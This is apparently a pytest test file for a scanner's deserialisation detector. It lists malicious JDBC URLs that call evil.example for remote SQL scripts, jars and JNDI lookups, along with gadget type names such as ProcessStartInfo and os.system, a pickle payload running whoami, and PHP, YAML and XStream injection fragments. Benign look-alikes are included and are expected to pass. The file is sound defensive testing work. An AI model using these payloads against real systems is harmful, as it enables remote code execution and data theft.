"""Objects that readers make by a name: types in JSON, tags of YAML, properties of a database."""

from __future__ import annotations

import pytest
from tests.support.suspects import STOPS, Suspects

from vallum.inspection.detectors.deserialisation import DETECTOR

SUSPECTS = Suspects(DETECTOR)


@pytest.mark.parametrize(
    "text",
    [
        "jdbc:h2:mem:a;INIT=RUNSCRIPT FROM 'http://evil.example/a.sql'",
        "jdbc:h2:mem:a;MODE=MySQL;init=create alias X as 'void x() { }'",
        "jdbc:h2:mem:a;FORBID_CREATION=FALSE;IGNORE_UNKNOWN_SETTINGS=TRUE",
        "jdbc:mysql://evil.example/a?user=b&autoDeserialize=true",
        "jdbc:mysql://address=(host=evil.example)(autoDeserialize=yes)/a",
        "jdbc:mariadb://evil.example/a?allowLocalInfile=true",
        "jdbc:mysql://evil.example/a?allowUrlInLocalInfile=1",
        "jdbc:postgresql://b/?sslfactory=org.springframework.context.X&sslfactoryarg=http://evil/a",
        "jdbc:postgresql://b/?loggerLevel=TRACE&loggerFile=../webapps/ROOT/a.jsp",
        "jdbc:db2://b:5000/a:clientRerouteServerListJNDIName=ldap://evil.example/a;",
        "jdbc:sqlite::resource:jar:http://evil.example/a.jar!/b.db",
        "jdbc:calcite:model=inline:{}",
        "jdbc:jcr:jndi:rmi://evil.example/a",
        "spring.datasource.url=jdbc:h2:mem:a;INIT=RUNSCRIPT FROM 'ftp://evil.example/a'",
    ],
)
def test_databases_whose_properties_run_something_are_stopped(text: str) -> None:
    found = [each for _, each in SUSPECTS.judge(text, "body")]
    assert any(each.rule == "deserialisation.jdbc" and each.score >= STOPS for each in found)


@pytest.mark.parametrize(
    "text",
    [
        "jdbc:postgresql://db.example.com:5432/app?sslmode=require&ApplicationName=api",
        "jdbc:h2:mem:test;INIT=CREATE SCHEMA IF NOT EXISTS app",
        "jdbc:h2:mem:test;INIT=RUNSCRIPT FROM 'classpath:schema.sql'",
        "jdbc:mysql://db/shop?useSSL=true&serverTimezone=UTC&autoDeserialize=false",
        "jdbc:postgresql:///a?socketFactory=com.google.cloud.sql.postgres.SocketFactory",
        "jdbc:postgresql://db/app?loggerLevel=DEBUG&loggerFile=/var/log/pg.log",
        "The scanner warns that one may add autoDeserialize=true to the address, jdbc:mysql is hit",
    ],
)
def test_databases_that_are_only_named_pass(text: str) -> None:
    assert SUSPECTS.score(text, "body") < STOPS


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("__type", "System.Diagnostics.ProcessStartInfo:#System.Diagnostics"),
        ("$type", "System.IO.DirectoryInfo"),
        ("__type", "Process:#System.Diagnostics"),
        ("@type", "[org.apache.xalan.xsltc.trax.TemplatesImpl"),
        ("__class__", "subprocess.call"),
    ],
)
def test_a_type_that_reaches_out_is_stopped_where_types_stand(name: str, text: str) -> None:
    assert SUSPECTS.score(text, "body", name=name) >= STOPS


@pytest.mark.parametrize(("name", "text"), [("$type", "System.String"), ("_class", "Person")])
def test_plain_types_pass(name: str, text: str) -> None:
    assert SUSPECTS.score(text, "body", name=name) < STOPS


@pytest.mark.parametrize(
    "name", ["py/object/new:os.system", "py/function:os.system", "__jsonclass__"]
)
def test_keys_that_make_objects_are_stopped(name: str) -> None:
    assert SUSPECTS.score(name, "body", is_name=True) >= STOPS


@pytest.mark.parametrize(
    "text",
    [
        "(S'whoami'\nisubprocess\ncall\n.",
        '";s:7:"isAdmin";b:1;}',
        'user|s:5:"alice";',
        'o:4:"Item":0:{}',
        "%TAG !e! tag:yaml.org,2002:python/\n--- x",
        "c: &c [*b, *b, *b, *b]",
        "<object-stream><groovy.lang.Closure/></object-stream>",
        '<x:ObjectDataProvider MethodName="Start"/>'.replace("x:", ""),
    ],
)
def test_parts_of_serialised_objects_are_stopped(text: str) -> None:
    assert SUSPECTS.score(text, "body") >= STOPS


@pytest.mark.parametrize(
    "text",
    [
        "defaults: &defaults\n  adapter: postgres\ndev:\n  <<: *defaults",
        "call(*args, *rest) and [*a, *b]",
        "a|b:1 or c|d:2",
        "key;s:4 of 5",
        "System.Windows is a namespace",
        "List<org.apache.commons.lang3.tuple.Pair> pairs",
        "<ResourceDictionary xmlns='http://a.example'>",
    ],
)
def test_what_only_resembles_them_passes(text: str) -> None:
    assert SUSPECTS.score(text, "body") < STOPS
